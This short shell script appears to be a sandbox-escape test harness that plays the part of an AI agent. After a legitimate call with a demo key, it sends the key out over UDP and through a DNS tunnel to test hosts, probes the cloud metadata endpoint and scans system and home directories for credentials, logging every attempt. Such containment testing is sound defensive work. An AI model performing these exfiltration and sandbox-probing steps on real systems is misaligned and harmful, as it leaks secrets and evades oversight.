# SPDX-License-Identifier: Apache-2.0
# The agent of the demo. It uses its key as anybody would, then tries to get
# out and to find the real one. It tells on stderr, a line each: what, exit
# status, milliseconds, last words; on stdout goes everything it can read.
tell() { printf '%s\t%s\t%s\t%s\n' "$@" >&2; }
try() {
	what=$1
	shift
	start=$(date +%s%N)
	words=$("$@" 2>&1)
	status=$?
	tell "$what" $status $((($(date +%s%N) - start) / 1000000)) "$(printf %s "$words" | tail -n 1)"
}
tell key 0 0 "$DEMO_KEY"
try call curl -sS --fail-with-body -H "Authorization: Bearer $DEMO_KEY" https://api.demo.test/v1/whoami
try web curl -sS --max-time 5 https://example.org
try udp python3 udp.py 192.0.2.7 9999 "$DEMO_KEY"
try dns python3 tunnel.py 192.0.2.53 "$DEMO_KEY" tunnel.example.org
try metadata curl -sS --max-time 5 http://169.254.169.254/latest/meta-data/
exec 3>&1
tell looked 0 0 "$(python3 look.py /proc "$HOME" /run /tmp /var/tmp /dev/shm /var/lib /var/log /etc 2>&1 >&3)"
